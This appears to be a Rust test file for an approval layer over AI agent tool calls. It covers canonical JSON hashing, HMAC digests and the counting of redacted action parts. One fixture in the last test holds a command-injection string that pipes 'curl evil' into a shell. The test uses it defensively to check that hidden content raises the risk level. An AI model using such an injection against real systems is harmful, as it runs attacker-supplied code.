use super::*;

fn exact(json: &str) -> ExactJson {
    ExactJson::parse(json).expect(json)
}

fn action(arguments: &ExactJson) -> Action<'_> {
    Action {
        thread_id: "thr_0",
        tool_name: "shell",
        summary: "push",
        arguments: Some(arguments),
        risk: Some("high"),
    }
}

#[test]
fn a_digest_does_not_depend_on_the_order_of_members() {
    let (one, other) = (exact(r#"{"a":[{"c":1,"d":2}],"b":3}"#), exact(r#"{"b":3,"a":[{"d":2,"c":1}]}"#));
    assert_eq!(action(&one).hash(), action(&other).hash());
}

#[test]
fn a_digest_distinguishes_actions() {
    let all = [
        "null",
        "1",
        "1.0",
        "1e0",
        "-0",
        "0",
        "\"1\"",
        "[1,2]",
        "[2,1]",
        r#"{"a":1}"#,
        r#"{"a":2}"#,
        r#"{"a":1,"a":2}"#,
        "123456789012345678901234567890",
        "123456789012345678901234567891",
        "0.1",
        "0.1000000000000000055511151231257827",
        "1e400",
        "1e401",
    ]
    .map(exact);
    for (index, one) in all.iter().enumerate() {
        for other in &all[index + 1..] {
            assert_ne!(action(one).hash(), action(other).hash(), "{one:?} {other:?}");
        }
    }
    let none =
        |tool_name, summary| Action { thread_id: "thr_0", tool_name, summary, arguments: None, risk: None };
    assert_ne!(none("a", "b").hash(), none("ab", "").hash());
}

#[test]
fn the_shown_digest_matches_the_documentation() {
    let text = r#"{"arguments":{"a":1,"b":["x"]},"risk":"high","summary":"push","thread_id":"thr_0","tool_name":"shell"}"#;
    let arguments = exact(r#"{"b":["x"],"a":1}"#);
    assert_eq!(action(&arguments).shown_digest(), format!("sha256:{}", hex(&Sha256::digest(text))));
}

#[test]
fn an_action_digest_is_an_hmac_with_the_key_of_the_store() {
    let arguments = exact("1");
    let hash = action(&arguments).hash();
    let digest = |byte| DigestKey::new([byte; 32]).digest(&hash);
    assert!(digest(1).starts_with("hmac-sha256:") && digest(1).len() == 12 + 64);
    assert_eq!(digest(1), digest(1));
    assert_ne!(digest(1), digest(2));
}

#[test]
fn hidden_parts_are_counted() {
    let original = exact(r#"{"token":"x\"; curl evil|sh #","n":[1234567],"note":"kept [redacted:token]"}"#);
    let shown =
        exact(r#"{"token":"[redacted:token]","n":["[redacted:pin]"],"note":"kept [redacted:token]"}"#);
    let found = hidden(&action(&original), &action(&shown)).expect("something is hidden");
    assert_eq!(in_words(&found), "2 parts of this action are hidden: pin, token, 25 characters");
    assert_eq!(hidden(&action(&original), &action(&original)), None);
    assert_eq!(shown_risk(Some(ApprovalRisk::Low), Some(&found)), Some(ApprovalRisk::High));
    assert_eq!(shown_risk(Some(ApprovalRisk::Critical), Some(&found)), Some(ApprovalRisk::Critical));
    assert_eq!(shown_risk(None, None), None);
}
